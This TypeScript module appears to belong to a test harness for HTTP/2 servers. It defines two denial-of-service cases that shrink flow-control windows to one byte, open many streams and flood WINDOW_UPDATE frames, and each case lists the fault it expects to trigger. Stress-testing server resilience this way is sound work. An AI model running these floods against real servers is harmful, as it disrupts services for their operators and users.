import { ATTACK_MS, type Attack } from '../attack.ts';
import {
  chunks,
  frame,
  headers,
  INITIAL_WINDOW_SIZE,
  request,
  settings,
  TYPE,
  uint32,
  Wire,
} from '../wire.ts';

const STREAMS = 128;
const REPEATED = 20_000;

function opened(path: string): Buffer {
  return Buffer.concat(Array.from({ length: STREAMS }, (_, index) => headers(2 * index + 1, request(path))));
}

export const WINDOWS: readonly Attack[] = [
  {
    name: 'windows of one byte, opened a byte at a time',
    target: 'usual',
    faults: ['tiny_windows', 'window_update_flood'],
    prepare() {
      const pieces = chunks(
        Array.from({ length: REPEATED }, (_, index) =>
          frame(TYPE.WINDOW_UPDATE, 0, 2 * (index % STREAMS) + 1, uint32(1)),
        ),
      );
      return async (port) => {
        const wire = await Wire.greeted(port, settings([INITIAL_WINDOW_SIZE, 1]));
        wire.say(opened('/big'));
        await wire.flood(pieces, ATTACK_MS);
        wire.close();
        return wire.fate;
      };
    },
  },
  {
    name: 'requests with a window of one byte, one after the other',
    target: 'usual',
    faults: [],
    prepare() {
      const pieces: Buffer[] = [];
      for (let index = 0; index < REPEATED; index += 1) {
        const id = 2 * index + 1;
        pieces.push(headers(id, request('/small')));
        if (index >= 100) pieces.push(frame(TYPE.WINDOW_UPDATE, 0, id - 200, uint32(1000)));
      }
      const all = chunks(pieces);
      return async (port) => {
        const wire = await Wire.greeted(port, settings([INITIAL_WINDOW_SIZE, 1]));
        await wire.flood(all, ATTACK_MS, false);
        wire.close();
        return wire.fate;
      };
    },
  },
];
